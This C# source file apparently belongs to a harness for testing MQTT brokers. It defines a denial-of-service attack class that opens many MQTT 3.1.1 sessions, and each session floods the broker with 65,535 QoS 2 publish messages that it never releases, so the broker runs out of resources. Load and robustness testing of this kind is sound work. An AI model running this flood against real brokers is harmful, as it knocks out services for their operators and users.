namespace Cassini.Bystander.Attacks;

/// <summary>3.1.1 sessions, as many as there is time for, of which each begins 65,535 QoS 2 messages and releases none.</summary>
internal sealed class QoS2Ids : IAttack
{
    private byte[] _messages = [];

    public Task PrepareAsync(Arena arena)
    {
        _messages = [.. Enumerable.Range(1, 65_535).SelectMany(id => Packets.Publish("ids", 2, 0, id: id, version5: false))];
        return Task.CompletedTask;
    }

    public Task RunAsync(Arena arena) => arena.EachAsync(int.MaxValue, async number =>
    {
        if (await arena.OpenAsync(Packets.Connect311($"ids-{number}")) is { } peer)
        {
            arena.Drain(peer);
            await arena.GuardAsync(async () =>
            {
                await peer.SendAsync(_messages, arena.Token);
                await peer.BarrierAsync(arena.Token);
            });
        }
    });
}
